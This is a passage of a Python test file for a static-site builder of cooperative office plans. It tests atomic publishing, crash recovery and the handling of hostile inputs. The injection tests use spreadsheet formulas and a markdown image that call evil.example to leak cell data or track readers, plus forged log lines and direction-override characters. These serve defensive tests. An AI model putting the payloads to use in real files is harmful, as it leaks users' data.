"""Hostile input and faults, round two (issue 21): each test is named after the attack it stops.

Output directory and publishing: a build never deletes plans or the project, replaces `site/` in
one atomic step, leaves nothing a killed build made behind for long, is readable by a web server,
runs one at a time, and verifies what it takes from the PDF cache.
"""

from __future__ import annotations

import contextlib
import errno
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from sebabox.cli import main

from conftest import PLANS, ROOT, pdf_text

PYTHON = sys.executable


def _build(plans: Path, out: Path, *, pdf: bool = False, search: bool = False) -> Path:
    from sebabox.outputs.publish import build_site

    build_site(ROOT / "mkdocs.yml", plans, out, pdf=pdf, search=search, progress=lambda line: None)
    return out


def _cli(*args: str):
    return CliRunner().invoke(main, list(args))


def _files(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def _hidden_beside(out: Path) -> list[str]:
    """Hidden entries beside OUT but its builds folder; in that folder, anything but the lock and the published build."""
    builds = out.parent / f".{out.name}.builds"
    current = Path(os.readlink(out)).name if out.is_symlink() else None
    found = [p.name for p in out.parent.iterdir() if p.name.startswith(f".{out.name}.") and p != builds]
    if builds.is_dir():
        found += [f"{builds.name}/{p.name}" for p in builds.iterdir() if p.name not in ("lock", current)]
    return sorted(found)


@pytest.fixture(scope="module")
def reference_site(tmp_path_factory) -> Path:
    """The shipped plans built once without PDFs and search: what a complete site holds."""
    return _build(PLANS, tmp_path_factory.mktemp("reference") / "site")


# --------------------------------------------------------------------------- build --out


def test_build_out_plans_is_refused_and_no_plan_file_is_deleted(plans_copy):
    before = _files(plans_copy)
    result = _cli("build", "--plans", str(plans_copy), "--out", str(plans_copy), "--no-pdf", "--no-search")
    assert result.exit_code == 1
    assert f"refusing to build into {plans_copy}: it holds the plans" in result.output
    assert "Traceback" not in result.output
    assert _files(plans_copy) == before


def test_build_out_dot_is_refused_when_it_holds_the_project(tmp_path):
    project = tmp_path / "project"
    shutil.copytree(PLANS, project / "plans")
    shutil.copy(ROOT / "mkdocs.yml", project / "mkdocs.yml")
    (project / "notes.txt").write_text("keep me", encoding="utf-8")
    result = _cli("build", "--plans", str(project / "plans"), "--out", str(project), "--config",
                  str(project / "mkdocs.yml"), "--no-pdf", "--no-search")
    assert result.exit_code == 1
    assert "refusing to build into" in result.output and "holds the plans" in result.output
    assert (project / "notes.txt").read_text(encoding="utf-8") == "keep me"


def test_build_out_of_the_repository_root_is_refused_as_the_project():
    result = _cli("build", "--out", str(ROOT.parent), "--no-pdf", "--no-search")
    assert result.exit_code == 1
    assert "refusing to build into" in result.output


def test_build_out_inside_the_plans_is_refused(plans_copy):
    result = _cli("build", "--plans", str(plans_copy), "--out", str(plans_copy / "site"), "--no-pdf", "--no-search")
    assert result.exit_code == 1
    assert "it is inside the plans directory" in result.output
    assert not (plans_copy / "site").exists()


def test_build_out_of_a_folder_of_other_files_is_refused(tmp_path):
    other = tmp_path / "documents"
    other.mkdir()
    (other / "letter.docx").write_bytes(b"keep me")
    result = _cli("build", "--out", str(other), "--no-pdf", "--no-search")
    assert result.exit_code == 1
    assert "holds files that are not a sebabox site" in result.output
    assert (other / "letter.docx").read_bytes() == b"keep me"


def test_build_out_of_a_file_is_refused(tmp_path):
    target = tmp_path / "site"
    target.write_text("not a folder", encoding="utf-8")
    result = _cli("build", "--out", str(target), "--no-pdf", "--no-search")
    assert result.exit_code == 1 and "it is a file, not a directory" in result.output


# --------------------------------------------------------------------------- the atomic switch


def test_site_is_a_link_switched_by_one_rename_and_the_old_build_is_removed(reference_site, tmp_path):
    out = _build(PLANS, tmp_path / "site")
    first = os.readlink(out)
    assert out.is_symlink() and not Path(first).is_absolute()  # the project can move
    _build(PLANS, out)
    second = os.readlink(out)
    assert second != first and not (tmp_path / first).exists()
    assert _files(out) == _files(reference_site)
    assert _hidden_beside(out) == []


def test_a_site_directory_from_an_older_sebabox_is_exchanged_in_one_step(reference_site, tmp_path):
    out = tmp_path / "site"
    shutil.copytree(reference_site, out)  # a real directory, as older versions made
    (out / "stale.html").write_text("old", encoding="utf-8")
    _build(PLANS, out)
    assert out.is_symlink() and not (out / "stale.html").exists()
    assert _files(out) == _files(reference_site)
    assert _hidden_beside(out) == []


class Crash(BaseException):
    """Stands for kill -9: nothing after it runs, no cleanup."""


@pytest.mark.parametrize("older", [False, True], ids=["link", "older-directory"])
def test_a_crash_at_any_step_of_the_switch_leaves_a_complete_site_and_the_next_build_cleans_up(
        reference_site, tmp_path, monkeypatch, older):
    """Every system call of the switch in turn is the last one: OUT is always the old or the new site."""
    from sebabox.outputs import atomic

    real = {name: getattr(os, name) for name in ("replace", "symlink", "unlink")}
    steps = 0
    while True:
        case = tmp_path / f"case{steps}"
        out = case / "site"
        case.mkdir()
        if older:
            shutil.copytree(reference_site, out)
            (out / "which.txt").write_text("old", encoding="utf-8")
        else:
            with atomic.build_lock(out):
                old = atomic.new_build(out)
                shutil.copytree(reference_site, old, dirs_exist_ok=True)
                (old / "which.txt").write_text("old", encoding="utf-8")
                atomic.switch(old, out)
        new = atomic.new_build(out)
        shutil.copytree(reference_site, new, dirs_exist_ok=True)
        (new / "which.txt").write_text("new", encoding="utf-8")
        calls = 0

        def counted(name):
            def call(*args, **kwargs):
                nonlocal calls
                if calls == steps:
                    raise Crash(name)
                calls += 1
                return real[name](*args, **kwargs)
            return call

        for name in real:
            monkeypatch.setattr(os, name, counted(name))
        try:
            atomic.switch(new, out)
            crashed = False
        except Crash:
            crashed = True
        finally:
            for name, function in real.items():
                monkeypatch.setattr(os, name, function)
        assert (out / "which.txt").read_text(encoding="utf-8") in ("old", "new")
        assert _files(out).keys() == _files(reference_site).keys() | {"which.txt"}
        with atomic.build_lock(out):
            atomic.clean_leftovers(out)
        assert _hidden_beside(out) == []
        if not crashed:
            assert (out / "which.txt").read_text(encoding="utf-8") == "new"
            break
        steps += 1
    assert steps >= (1 if older else 2)  # the new link, the rename (or the one-step exchange) were interrupted


# --------------------------------------------------------------------------- leftovers, lock, permissions


def test_what_a_killed_build_left_is_removed_by_the_next_build(tmp_path, monkeypatch):
    out = tmp_path / "site"
    builds = tmp_path / ".site.builds"
    (builds / "b-1-99999999" / "offices").mkdir(parents=True)  # a half-written build
    (tmp_path / ".site.link-99999999").symlink_to(".site.builds/b-1-99999999")  # a spare link
    (tmp_path / ".site.building-abc123" / "pdf").mkdir(parents=True)  # older sebabox's temporary directory
    (tmp_path / ".site.old-4242").mkdir()
    cache = tmp_path / "pdf-cache"
    abandoned = cache / ".rendering-99999999-x1y2"
    abandoned.mkdir(parents=True)
    (abandoned / "half.pdf.tmp").write_bytes(b"%PDF-1.7 trunc")
    monkeypatch.setenv("SEBABOX_PDF_CACHE", str(cache))
    from sebabox.outputs import pdf

    monkeypatch.setattr(pdf, "_render_all", lambda *a, **k: None)  # the cache is cleaned even with no new PDF
    monkeypatch.setattr(pdf, "_verified", lambda cached: True)
    monkeypatch.setattr(pdf.shutil, "copyfile", lambda *a, **k: None)
    _build(PLANS, out, pdf=True)
    assert _hidden_beside(out) == []
    assert not abandoned.exists()


def test_a_second_build_says_another_build_is_running(tmp_path):
    out = tmp_path / "site"
    holder = subprocess.Popen(
        [PYTHON, "-c", "import sys, time; from pathlib import Path; from sebabox.outputs import atomic\n"
                       f"with atomic.build_lock(Path({str(out)!r})):\n print('locked', flush=True); time.sleep(60)"],
        stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "locked"
        result = _cli("build", "--out", str(out), "--no-pdf", "--no-search")
        assert result.exit_code == 1
        assert f"another build is running into {out} (process {holder.pid})" in result.output
        assert "Traceback" not in result.output and not out.exists()
    finally:
        holder.kill()
        holder.wait()
    _build(PLANS, out)  # the lock dies with its process
    assert (out / "index.html").is_file()


def test_site_is_readable_by_a_web_server_whatever_the_umask(tmp_path):
    old = os.umask(0o077)
    try:
        out = _build(PLANS, tmp_path / "site")
    finally:
        os.umask(old)
    target = out.resolve()
    wrong = [f"{p} {p.stat().st_mode & 0o777:o}" for p in [target, *target.rglob("*")]
             if p.stat().st_mode & 0o777 != (0o755 if p.is_dir() else 0o644)]
    assert wrong == []
    assert out.parent.joinpath(".site.builds").stat().st_mode & 0o755 == 0o755


@pytest.mark.skipif(shutil.which("rsync") is None, reason="rsync is not installed (scripts/system-deps.sh installs it)")
@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to read the copy as the unprivileged user nobody (runuser)")
def test_readme_rsync_deployment_is_readable_by_the_web_server_user_nobody(tmp_path):
    import tempfile

    site = _build(PLANS, tmp_path / "project" / "site", search=True)
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    assert "rsync -aL --delete site/ /var/www/sebabox/" in readme  # the route this test follows
    www = Path(tempfile.mkdtemp(prefix="sebabox-www-"))  # outside pytest's 0700 folders, as /var/www is
    try:
        www.chmod(0o755)
        docroot = www / "sebabox"
        subprocess.run(["rsync", "-aL", "--delete", f"{site}/", f"{docroot}/"], check=True)
        assert not docroot.is_symlink() and (docroot / "index.html").is_file()
        files = sorted(str(p) for p in docroot.rglob("*") if p.is_file())
        assert len(files) == len(_files(site)) and any(name.endswith(".pf_meta") for name in files)
        result = subprocess.run(["runuser", "-u", "nobody", "--", "xargs", "-0", "cat"],
                                input="\0".join(files).encode(), stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        assert result.returncode == 0, result.stderr.decode()[-2000:]
    finally:
        shutil.rmtree(www)


# --------------------------------------------------------------------------- faults as one line


@pytest.mark.parametrize("code, words", [(errno.ENOSPC, "the disk is full"), (errno.EROFS, "read-only"),
                                          (errno.EPERM, "immutable")])
def test_full_disk_read_only_or_immutable_output_is_one_line_not_a_traceback(tmp_path, monkeypatch, code, words):
    from sebabox.outputs import publish

    out = tmp_path / "site"
    _build(PLANS, out)
    before = _files(out)

    def fail(*args, **kwargs):
        raise OSError(code, os.strerror(code), str(out / "offices" / "x.html"))

    monkeypatch.setattr(publish, "index_search", fail)
    result = _cli("build", "--out", str(out), "--no-pdf")
    assert result.exit_code == 1
    assert words in result.output and f"{out} was not replaced" in result.output
    assert "Traceback" not in result.output
    assert _files(out) == before and _hidden_beside(out) == []


@pytest.mark.skipif(shutil.which("chattr") is None or os.geteuid() != 0, reason="needs root and chattr")
def test_immutable_output_folder_is_one_line_not_a_traceback(tmp_path):
    out = tmp_path / "www" / "site"
    _build(PLANS, out)
    if subprocess.run(["chattr", "+i", str(out.parent)], capture_output=True).returncode != 0:
        pytest.skip("this file system has no immutable attribute (chattr +i failed)")
    try:
        result = _cli("build", "--out", str(out), "--no-pdf", "--no-search")
    finally:
        subprocess.run(["chattr", "-i", str(out.parent)], check=True)
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "the build stopped" in result.output and (out / "index.html").is_file()


# --------------------------------------------------------------------------- the PDF cache


def _jobs(count: int = 2):
    from sebabox.inputs.check import check_plans
    from sebabox.outputs.render import pdf_jobs
    from sebabox.outputs.report import SiteDocuments

    catalog = check_plans(PLANS)[1]
    return pdf_jobs(SiteDocuments.of(catalog))[:count]


FONTS = ROOT / "theme_overrides" / "assets" / "fonts"


def test_a_truncated_pdf_cache_entry_is_rendered_again_not_published(tmp_path):
    from sebabox.outputs import pdf

    jobs, cache = _jobs(), tmp_path / "cache"
    pdf.render_pdfs(jobs, tmp_path / "one", cache, FONTS, workers=1, progress=lambda line: None)
    for entry in cache.glob("*.pdf"):
        entry.write_bytes(entry.read_bytes()[:500])  # a full disk or a killed copy
    stats = pdf.render_pdfs(jobs, tmp_path / "two", cache, FONTS, workers=1, progress=lambda line: None)
    assert stats.rendered == len(jobs) and stats.cached == 0
    for job in jobs:
        assert (tmp_path / "two" / job.target).read_bytes() == (tmp_path / "one" / job.target).read_bytes()
        assert "সেবা" in pdf_text(tmp_path / "two" / job.target) or pdf_text(tmp_path / "two" / job.target).strip()
    again = pdf.render_pdfs(jobs, tmp_path / "three", cache, FONTS, workers=1, progress=lambda line: None)
    assert again.rendered == 0  # verified entries are used


def test_plan_text_font_placeholder_is_printed_as_typed_not_the_build_machines_font_path(tmp_path):
    from sebabox.outputs import pdf

    html = ("<html><head><style>" + pdf.print_css() + "</style></head><body><p>{{FONT_REGULAR}} "
            "sebabox-font:NotoSansBengali-Regular.ttf</p></body></html>")
    pdf.render_pdfs([pdf.PdfJob(html, "pdf/x.pdf")], tmp_path / "site", tmp_path / "cache", FONTS, workers=1,
                    progress=lambda line: None)
    text = pdf_text(tmp_path / "site" / "pdf" / "x.pdf")
    assert "{{FONT_REGULAR}}" in text and "file:" not in text and str(FONTS) not in text


# --------------------------------------------------------------------------- file-system shapes under plans/

ITNA = "itna-upazila-cooperative"


def _check_subprocess(plans: Path) -> tuple[int, str]:
    """check in its own process with a time limit: a FIFO must not hang it."""
    result = subprocess.run([PYTHON, str(ROOT / "build_site.py"), "check", str(plans)], capture_output=True,
                            text=True, timeout=120, cwd=ROOT)
    return result.returncode, result.stdout + result.stderr


def _build_cli(plans: Path, out: Path, *extra: str):
    return _cli("build", "--plans", str(plans), "--out", str(out), "--no-pdf", "--no-search", *extra)


def _secret_outside(tmp_path: Path) -> Path:
    outside = tmp_path / "outside"
    (outside / "secret-office").mkdir(parents=True)
    (outside / "secret-office" / "office.yaml").write_text(
        (PLANS / ITNA / "office.yaml").read_text(encoding="utf-8").replace(ITNA, "secret-office"), encoding="utf-8")
    return outside


def test_directory_symlink_under_plans_is_not_read_by_check_build_or_import_xlsx(plans_copy, tmp_path, check):
    (plans_copy / "linked").symlink_to(_secret_outside(tmp_path), target_is_directory=True)
    code, output = check(plans_copy)
    assert code == 0, output
    assert f"{plans_copy / 'linked'}:1: warning: লিংক করা ফোল্ডার পড়া হয় না (a linked folder is not read)" in output
    site = tmp_path / "site"
    assert _build_cli(plans_copy, site).exit_code == 0
    assert "secret-office" not in (site / "data" / "offices.json").read_text(encoding="utf-8")
    book = tmp_path / "nis-q2.xlsx"
    assert _cli("xlsx-template", str(book), "--office", ITNA, "--document", "nis", "--plans", str(plans_copy)).exit_code == 0
    with _opened_files() as opened:
        result = _cli("import-xlsx", str(book), "--office", ITNA, "--plans", str(plans_copy))
    assert "Traceback" not in result.output
    assert any(name.endswith("nis-q1.yaml") for name in opened)  # the plans were read
    assert not any("secret-office" in name or "outside" in name for name in opened), opened


_AUDIT: list[list[str]] = []


def _audit(event: str, args) -> None:
    if event == "open" and _AUDIT and isinstance(args[0], (str, bytes, os.PathLike)):
        _AUDIT[-1].append(os.fsdecode(args[0]))


@contextlib.contextmanager
def _opened_files():
    """Every file this process opens meanwhile (Python's audit hook 'open': builtins.open and os.open)."""
    if not getattr(_audit, "installed", False):
        sys.addaudithook(_audit)
        _audit.installed = True
    _AUDIT.append([])
    try:
        yield _AUDIT[-1]
    finally:
        _AUDIT.pop()


def test_symlink_loop_under_plans_is_a_located_message_not_a_traceback(plans_copy, tmp_path, check):
    (plans_copy / ITNA / "loop").symlink_to(plans_copy, target_is_directory=True)
    (plans_copy / "self.yaml").symlink_to(plans_copy / "self.yaml")
    code, output = check(plans_copy)
    assert f"{plans_copy / ITNA / 'loop'}:1: warning: লিংক করা ফোল্ডার পড়া হয় না (a linked folder is not read)" in output
    assert f"{plans_copy / 'self.yaml'}:1: error: লিংকটি এমন ফাইলের, যা নেই (a link to a missing file, or a loop" in output
    (plans_copy / "self.yaml").unlink()
    book = tmp_path / "nis-q2.xlsx"
    assert _cli("xlsx-template", str(book), "--office", ITNA, "--document", "nis", "--plans", str(plans_copy)).exit_code == 0
    result = _cli("import-xlsx", str(book), "--office", ITNA, "--plans", str(plans_copy))
    assert "Traceback" not in result.output and not isinstance(result.exception, shutil.Error), result.output


def test_fifo_named_like_a_plan_is_a_located_error_and_never_hangs_check_or_build(plans_copy, tmp_path):
    for name in (f"{ITNA}/2023-24/grs.yaml", f"{ITNA}/.hidden-fifo.yaml"):
        os.mkfifo(plans_copy / name) if not (plans_copy / name).exists() else None
    fifo = plans_copy / ITNA / "2023-24" / "pipe.yaml"
    os.mkfifo(fifo)
    code, output = _check_subprocess(plans_copy)
    assert code == 1
    assert f"{fifo}:1: error: এটি সাধারণ ফাইল নয় (not a regular file: a FIFO)" in output
    result = subprocess.run([PYTHON, str(ROOT / "build_site.py"), "build", "--plans", str(plans_copy), "--out",
                             str(tmp_path / "site"), "--no-pdf", "--no-search"], capture_output=True, text=True,
                            timeout=300, cwd=ROOT)
    assert result.returncode == 1 and f"{fifo}:1: error: এটি সাধারণ ফাইল নয় (not a regular file" in result.stdout + result.stderr
    assert "Traceback" not in result.stderr


def test_hidden_link_to_dev_zero_and_a_folder_named_x_yaml_do_not_break_build_after_check_passes(plans_copy, tmp_path,
                                                                                               check):
    (plans_copy / ITNA / ".x.yaml").symlink_to("/dev/zero")
    (plans_copy / ITNA / "2023-24" / "x.yaml").mkdir()
    code, output = check(plans_copy)
    assert code == 0, output
    assert f"{plans_copy / ITNA / '.x.yaml'}:1: warning: লুকানো ফাইল পড়া হয় না (a hidden file" in output
    assert f"{plans_copy / ITNA / '2023-24' / 'x.yaml'}:1: warning: ফোল্ডারের নাম প্ল্যান ফাইলের মতো" in output
    result = _build_cli(plans_copy, tmp_path / "site", "--incremental")
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output


def test_device_link_and_huge_file_inside_plans_are_located_errors(plans_copy, check):
    (plans_copy / ITNA / "zero.yaml").symlink_to("/dev/zero")  # outside: refused before it is opened
    (plans_copy / ITNA / "huge.yaml").write_bytes(b"# " + b"x" * 3_000_000 + b"\n")
    code, output = check(plans_copy)
    assert code == 1
    assert f"{plans_copy / ITNA / 'zero.yaml'}:1: error: plans ফোল্ডারের বাইরের লিংক (link) পড়া হয় না" in output
    assert f"{plans_copy / ITNA / 'huge.yaml'}:1: error: ফাইলটি 3,000,003 বাইট (bytes)" in output


@pytest.mark.parametrize("name, renamed", [("nis.YAML", "nis.yaml"), ("nis.Yaml", "nis.yaml"),
                                           ("nis.yaml.txt", "nis.yaml"), ("charter.YML", "charter.yml")])
def test_plan_saved_as_upper_case_or_txt_is_a_located_error_not_silently_skipped(plans_copy, check, name, renamed):
    folder = plans_copy / ITNA / "2023-24"
    (folder / "nis.yaml").rename(folder / name)
    code, output = check(plans_copy)
    assert code == 1
    assert (f"{folder / name}:1: error: পড়া হয়নি: প্ল্যান ফাইলের নাম ছোট হাতের .yaml বা .yml দিয়ে শেষ হয় (not read); "
            f"নাম বদলে লিখুন '{renamed}'") in output


def test_incremental_build_sees_a_changed_yml_plan_file(plans_copy, tmp_path):
    folder = plans_copy / ITNA / "2023-24"
    (folder / "nis.yaml").rename(folder / "nis.yml")
    site = tmp_path / "site"
    assert _build_cli(plans_copy, site, "--incremental").exit_code == 0
    text = (folder / "nis.yml").read_text(encoding="utf-8")
    assert "title:" in text
    (folder / "nis.yml").write_text(text.replace("title: ", "title: ইয়ামেল-পরিবর্তন ", 1), encoding="utf-8")
    result = _build_cli(plans_copy, site, "--incremental")
    assert result.exit_code == 0, result.output
    assert f"rebuilding 1 changed office(s): {ITNA}" in result.output
    page = (site / "offices" / ITNA / "2023-24" / "nis" / "index.html").read_text(encoding="utf-8")
    assert "ইয়ামেল-পরিবর্তন" in page


def test_incremental_build_rebuilds_the_office_a_plan_names_not_the_folder_it_sits_in(plans_copy, tmp_path):
    other = "rangpur-sadar-upazila-cooperative"
    moved = plans_copy / ITNA / "2023-24" / "rangpur-cc.yaml"
    (plans_copy / other / "2023-24" / "cc.yaml").rename(moved)
    site = tmp_path / "site"
    assert _build_cli(plans_copy, site, "--incremental").exit_code == 0
    text = moved.read_text(encoding="utf-8")
    assert "title:" in text
    moved.write_text(text.replace("title: ", "title: অন্য-ফোল্ডার ", 1), encoding="utf-8")
    result = _build_cli(plans_copy, site, "--incremental")
    assert result.exit_code == 0, result.output
    assert other in result.output.split("rebuilding", 1)[1].splitlines()[0]
    page = (site / "offices" / other / "2023-24" / "cc" / "index.html").read_text(encoding="utf-8")
    assert "অন্য-ফোল্ডার" in page


# --------------------------------------------------------------------------- injection


NIS = f"{ITNA}/2023-24/nis.yaml"


def _replace_first(path: Path, key: str, value: str) -> None:
    """Give the first `key:` of a plan file a new (YAML-quoted) value."""
    import json
    import re

    text = path.read_text(encoding="utf-8")
    new, count = re.subn(rf"(\n\s*{key}: )[^\n]*", lambda m: m.group(1) + json.dumps(value, ensure_ascii=False), text,
                         count=1)
    assert count == 1, key
    path.write_text(new, encoding="utf-8")


@pytest.mark.parametrize("sheet", ["plan", "progress"])
def test_xlsx_template_writes_plan_text_starting_with_equals_as_text_not_a_formula(plans_copy, tmp_path, check, sheet):
    import zipfile

    from openpyxl import load_workbook

    hyperlink = '=HYPERLINK("http://evil.example/?"&B2,"open")'
    webservice = '=WEBSERVICE("http://evil.example/"&B2)'
    _replace_first(plans_copy / NIS, "name", hyperlink)
    _replace_first(plans_copy / NIS, "activity", webservice)
    assert check(plans_copy)[0] == 0  # a pull request can do this
    book = tmp_path / "nis.xlsx"
    result = _cli("xlsx-template", str(book), "--office", ITNA, "--document", "nis", "--sheet", sheet,
                  "--plans", str(plans_copy))
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(book) as archive:
        xml = {name: archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith(".xml")}
    assert not any("<f>" in text or "<f " in text for text in xml.values())
    assert 'fullCalcOnLoad="1"' not in xml["xl/workbook.xml"]
    cells = [c for ws in load_workbook(book) for row in ws.iter_rows() for c in row if c.value is not None]
    assert {hyperlink, webservice} <= {c.value for c in cells}
    assert all(c.data_type != "f" for c in cells)
    assert all(c.quotePrefix for c in cells if c.value in (hyperlink, webservice))


def test_yaml_key_with_a_markdown_image_is_text_in_the_github_job_summary(plans_copy, tmp_path, monkeypatch):
    import markdown

    plan = plans_copy / NIS
    plan.write_text(plan.read_text(encoding="utf-8") + '"![x](https://evil.example/pixel.png)": 1\n'
                    '"[click](https://evil.example/) `code` <img src=x> | *b*": 2\n', encoding="utf-8")
    (plans_copy / ITNA / "2023-24" / "a`b|![i](evil.png).yaml").write_text("kind: [\n",
                                                                                           encoding="utf-8")
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    result = _cli("check", str(plans_copy), "--format", "github")
    assert result.exit_code == 1
    text = summary.read_text(encoding="utf-8")
    html = markdown.markdown(text, extensions=["tables"])
    assert "<img" not in html and "<a " not in html and "<em>" not in html
    assert html.count("<tr>") == text.count("\n| ") - 0  # one row per problem: no cell broke the table
    assert "![x](https://evil.example/pixel.png)" in html  # shown as typed


def test_plan_text_with_the_raw_html_placeholder_token_stays_text(plans_copy, tmp_path):
    import markdown

    from sebabox.site import rawhtml

    source = "<div>\n<p>block one</p>\n</div>\n\nSBRAW000000Z\n\n" + rawhtml.TOKEN.replace(rawhtml.NONCE, "0" * 16).format(5)
    stashed, blocks = rawhtml.stash(source)
    html = rawhtml.restore(markdown.markdown(stashed), blocks)
    assert html.count("block one") == 1 and "SBRAW000000Z" in html
    for guess in ("SBRAW000000Z", "SBRAW000009Z"):  # as a title, a whole paragraph of a built page
        plan = plans_copy / NIS
        _replace_first(plan, "title", guess)
        site = tmp_path / guess / "site"
        result = _build_cli(plans_copy, site)
        assert result.exit_code == 0, result.output
        page = (site / "offices" / ITNA / "2023-24" / "nis" / "index.html").read_text(encoding="utf-8")
        assert guess in page


def test_file_name_with_a_line_break_cannot_forge_a_path_line_error_line(plans_copy, check):
    forged = "x\nforged.yaml:1: error: this line is forged\n.yaml"
    (plans_copy / ITNA / forged).write_text("kind: [\n", encoding="utf-8")
    code, output = check(plans_copy)
    assert code == 1
    assert not any(line.startswith("forged.yaml:1:") for line in output.splitlines())
    assert f"{plans_copy / ITNA}/x\\nforged.yaml:1: error: this line is forged\\n.yaml:" in output


@pytest.mark.parametrize("where", ["name", "title"])
def test_unbalanced_right_to_left_override_in_a_name_is_a_located_error(plans_copy, check, where):
    path = plans_copy / (f"{ITNA}/office.yaml" if where == "name" else NIS)
    _replace_first(path, where, "উপজেলা \u202eসমবায় কার্যালয়")
    code, output = check(plans_copy)
    assert code == 1
    assert "error: লেখার দিক বদলানোর অদৃশ্য অক্ষর (direction control U+202E) খোলা হয়েছে কিন্তু বন্ধ হয়নি" in output
    assert f"{path}:" in output
    _replace_first(path, where, "উপজেলা \u202eসমবায়\u202c কার্যালয়")  # closed: allowed, it stays inside the value
    assert check(plans_copy)[0] == 0


# --------------------------------------------------------------------------- kill -9


def _descendants(pid: int) -> set[int]:
    """Every live process below `pid` (from /proc)."""
    parents: dict[int, list[int]] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if fields[0] != "Z":
                parents.setdefault(int(fields[1]), []).append(int(entry.name))
    found, todo = set(), [pid]
    while todo:
        for child in parents.get(todo.pop(), []):
            if child not in found:
                found.add(child)
                todo.append(child)
    return found


def _alive(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="needs /proc to find the build's worker processes")
def test_kill_9_at_any_moment_of_a_build_leaves_a_complete_site_no_workers_and_nothing_the_next_build_keeps(tmp_path):
    out, cache = tmp_path / "site", tmp_path / "pdf-cache"
    env = {**os.environ, "SEBABOX_PDF_CACHE": str(cache), "SEBABOX_WORKERS": "2"}
    command = [PYTHON, str(ROOT / "build_site.py"), "build", "--out", str(out)]
    subprocess.run(command, check=True, env=env, cwd=ROOT, capture_output=True, timeout=900)
    complete = _files(out)
    assert any(name.endswith(".pdf") for name in complete) and any(name.startswith("pagefind/") for name in complete)
    workers_seen = 0
    for delay in (0.5, 2, 4, 7, 11, 16):
        for entry in [*cache.glob("*.pdf"), *cache.glob("*.sha256")]:
            entry.unlink()  # every PDF is rendered again: the kill lands among the workers too
        build = subprocess.Popen(command, env=env, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        end = time.monotonic() + delay
        children: set[int] = set()
        while time.monotonic() < end and build.poll() is None:
            children |= _descendants(build.pid)
            time.sleep(0.1)
        build.send_signal(signal.SIGKILL)
        build.wait()
        workers_seen += len(children)
        assert _files(out) == complete, f"killed after {delay} s: the site is not the complete one"
        deadline = time.monotonic() + 30
        while any(_alive(pid) for pid in children) and time.monotonic() < deadline:
            time.sleep(0.2)
        assert not [pid for pid in children if _alive(pid)], f"killed after {delay} s: workers outlived the build"
    assert workers_seen > 0  # some kill landed while PDF workers or Pagefind ran
    subprocess.run(command, check=True, env=env, cwd=ROOT, capture_output=True, timeout=900)
    assert _files(out) == complete
    assert _hidden_beside(out) == []
    assert not list(cache.glob(".rendering-*")) and not list(cache.glob("tmp*"))


# --------------------------------------------------------------------------- numbers, dates, ids, weights

Q1 = f"{ITNA}/2023-24/nis-q1.yaml"


def _set_achievement(plans: Path, text: str) -> Path:
    path = plans / Q1
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    at = next(i for i, line in enumerate(lines) if line.startswith("  ১.১: "))
    lines[at] = f"  ১.১: {text}\n"
    path.write_text("".join(lines), encoding="utf-8")
    return path


@pytest.mark.parametrize("written, words", [
    ("1e309", "সংখ্যা চাই (expected a number)"), ("1234567890123456789012345678", "সীমার বাইরে (out of range)"),
    ("1e1000000", "সংখ্যা চাই (expected a number)"),
    ('"১২৩৪৫৬৭৮৯০১২৩৪৫৬৭৮৯০১২৩৪৫৬৭৮"', "সীমার বাইরে (out of range)"), ("1e-40", "সংখ্যা চাই (expected a number)"),
    ("০.০০০০০০০০০০০১", "সীমার বাইরে (out of range)"),
    ("01/01/2107", "তারিখ সীমার বাইরে (out of range): '01/01/2107'; বছর ১৯০০ থেকে ২০৯৯-এর মধ্যে লিখুন"),
    ("01/01/0001", "তারিখ সীমার বাইরে (out of range): '01/01/0001'; বছর ১৯০০ থেকে ২০৯৯-এর মধ্যে লিখুন"),
])
def test_huge_numbers_and_far_dates_are_located_errors_not_tracebacks(plans_copy, tmp_path, check, written, words):
    path = _set_achievement(plans_copy, written)
    code, output = check(plans_copy)
    assert code == 1, output
    assert f"{path}:" in output and words in output, output
    assert "Traceback" not in output
    result = _build_cli(plans_copy, tmp_path / "site")
    assert result.exit_code == 1 and "Traceback" not in result.output and not (tmp_path / "site").exists()


def test_year_0001_is_not_read_as_2001(plans_copy, check):
    from sebabox.bengali import parse_date

    assert parse_date("01/01/01").year == 2001  # two digits: this century, as offices write them
    _set_achievement(plans_copy, "01/01/0001")
    code, output = check(plans_copy)
    assert code == 1 and "2001" not in output


def test_fiscal_year_0000_01_is_a_located_error(plans_copy, check):
    path = plans_copy / NIS
    text = path.read_text(encoding="utf-8")
    line = next(i for i, l in enumerate(text.splitlines(), 1) if l.startswith("fiscal_year:"))
    path.write_text(text.replace(text.splitlines()[line - 1], "fiscal_year: 0000-01", 1), encoding="utf-8")
    code, output = check(plans_copy)
    assert code == 1
    assert f"{path}:{line}: error: অর্থবছর (fiscal year) '0000-01' ১৯০০-০১ থেকে ২০৯৮-৯৯-এর মধ্যে হতে হবে" in output, output


def test_one_indicator_written_three_ways_in_one_file_is_a_located_error(plans_copy, check):
    path = plans_copy / Q1
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("  ১.১: ১\n", '  ১.১: ১\n  "1.1": ৯\n  "[১.১]": ৮\n', 1), encoding="utf-8")
    code, output = check(plans_copy)
    assert code == 1
    assert f"{path}:" in output and "একই সূচক দুবার (given twice): '১.১' ও '1.1' একই ক্রম ১.১" in output, output


def test_negative_weight_is_a_located_error_not_a_negative_score(plans_copy, check):
